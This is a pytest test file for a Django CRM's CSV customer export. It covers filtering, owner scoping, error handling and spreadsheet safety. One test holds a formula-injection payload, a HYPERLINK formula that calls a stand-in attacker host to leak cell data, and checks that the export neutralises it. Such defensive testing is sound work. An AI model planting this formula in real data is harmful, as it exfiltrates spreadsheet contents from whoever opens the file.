"""The CSV export: the same rows as the filtered list, safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from customers.models import Customer
from tests.customers._support import committed_db, listed_names
from tests.factories.customers import CustomerFactory, TagFactory

pytestmark = pytest.mark.django_db

URL = reverse("customers:customer-export")
LIST_URL = reverse("customers:customer-list")
HEADER = [
    "ID",
    "Name",
    "Type",
    "Email",
    "Phone",
    "Address",
    "City",
    "Country",
    "Industry",
    "Source",
    "Tier",
    "Lifecycle stage",
    "Score",
    "Owner",
    "Tags",
    "Created (UTC)",  # times in the reader's time zone, here the site's
    "Updated (UTC)",
    "Last contacted (UTC)",
]


def _export(client, params=None):
    response = client.get(URL, params or {})
    body = b"".join(response.streaming_content)
    return response, body


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def book(customer, foreign_customer, rep, teammate, manager):
    vip, reseller = TagFactory(name="VIP"), TagFactory(name="Reseller")
    customer.tier = Customer.Tier.A
    customer.save()
    customer.tags.add(vip, reseller)
    CustomerFactory(owner=rep, name="Birch Bakery", tier=Customer.Tier.B)
    CustomerFactory(owner=rep, name="Cedar Systems", tier=Customer.Tier.A)
    CustomerFactory(owner=teammate, name="Delta Pharma", tier=Customer.Tier.A)
    foreign_customer.tier = Customer.Tier.A
    foreign_customer.save()
    return {"vip": vip}


def test_export_is_a_utf8_csv_attachment_with_bom(client, rep, book):
    client.force_login(rep)

    response, body = _export(client)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    assert body.startswith(b"\xef\xbb\xbf")


def test_export_has_header_and_only_own_customers(client, rep, book):
    client.force_login(rep)

    rows = _rows(_export(client)[1])

    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == ["Acme Logistics Ltd", "Birch Bakery", "Cedar Systems"]
    assert {row[13] for row in rows[1:]} == {"rep.one"}


@pytest.mark.parametrize(
    "params",
    [
        {"tier": "A"},
        {"tier": "A", "sort": "-name"},
        # Committed: inside the test's transaction the full-text index sees no row, while the list may find them
        # by walking the name index (crm.pagination.scan_rows), so the two would differ only in the test.
        pytest.param({"q": "buyer@acme"}, marks=committed_db),
        {},
        {"sort": "owner"},
        {"sort": "-owner"},
    ],
)
def test_export_holds_exactly_the_rows_the_list_shows(client, manager, book, params):
    # given
    client.force_login(manager)

    # when
    shown = listed_names(client.get(LIST_URL, params))
    exported = [row[1] for row in _rows(_export(client, params)[1])[1:]]

    # then
    assert exported == shown
    assert "Zenith Foods GmbH" not in exported


def test_export_row_holds_the_customers_fields_and_joined_tags(client, rep, customer, book):
    client.force_login(rep)

    rows = _rows(_export(client, {"tier": "A"})[1])
    acme = next(row for row in rows if row[0] == str(customer.pk))

    record = dict(zip(HEADER, acme, strict=True))
    assert record["Email"] == "buyer@acme.test"
    assert record["Country"] == "GB"
    assert record["Tier"] == "A"
    assert record["Owner"] == "rep.one"
    assert record["Tags"] == "Reseller; VIP"


def test_formula_looking_name_is_neutralised(client, rep):
    formula = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click me")'
    CustomerFactory(owner=rep, name=formula, notes="")
    CustomerFactory(owner=rep, name="@SUM(1+1)")
    client.force_login(rep)

    names = [row[1] for row in _rows(_export(client)[1])[1:]]

    assert sorted(names) == sorted(["'" + formula, "'@SUM(1+1)"])


def test_chinese_names_survive_the_export(client, rep):
    CustomerFactory(owner=rep, name="北京长城科技有限公司", city="北京", country="CN")
    client.force_login(rep)

    rows = _rows(_export(client)[1])

    assert rows[1][1] == "北京长城科技有限公司"
    assert rows[1][6] == "北京"


@pytest.mark.parametrize("param", ["tier", "owner", "tag", "not_contacted", "created_from"])
def test_invalid_filter_answers_400_without_rows(client, manager, outsider, book, param):
    # The list shows no rows for an invalid filter value either.
    client.force_login(manager)
    value = {"tier": "Z", "owner": outsider.pk, "tag": "abc", "not_contacted": "12", "created_from": "soon"}[param]

    response = client.get(URL, {param: value})

    assert response.status_code == 400
    body = response.content.decode()
    assert "The export filters are invalid" in body and param in body
    assert "Acme" not in body and "Zenith" not in body


@pytest.mark.parametrize("sort", ["password", "owner_id", "-"])
def test_unknown_sort_exports_the_rows_the_list_shows_in_its_usual_order(client, manager, book, sort):
    # given: a sort key the list does not offer, which the list ignores (saying so)
    client.force_login(manager)
    shown = listed_names(client.get(LIST_URL, {"tier": "A", "sort": sort}))

    # when
    response, body = _export(client, {"tier": "A", "sort": sort})

    # then: the same rows, in the same (default) order
    assert response.status_code == 200
    assert [row[1] for row in _rows(body)[1:]] == shown == ["Acme Logistics Ltd", "Cedar Systems", "Delta Pharma"]


def test_rep_naming_another_owner_exports_nothing_of_theirs(client, rep, outsider, book):
    client.force_login(rep)

    response, body = _export(client, {"owner": outsider.pk})

    names = [row[1] for row in _rows(body)[1:]] if response.status_code == 200 else []
    assert "Zenith Foods GmbH" not in names and b"Zenith" not in body
    assert set(names) <= {"Acme Logistics Ltd", "Birch Bakery", "Cedar Systems"}


def test_anonymous_export_redirects_to_login(client, book):
    response = client.get(URL)

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_export_holds_every_matching_row_not_just_the_first_page(client, rep):
    for number in range(1, 31):
        CustomerFactory(owner=rep, name=f"Client {number:02d}")
    client.force_login(rep)

    names = [row[1] for row in _rows(_export(client)[1])[1:]]

    assert names == [f"Client {n:02d}" for n in range(1, 31)]
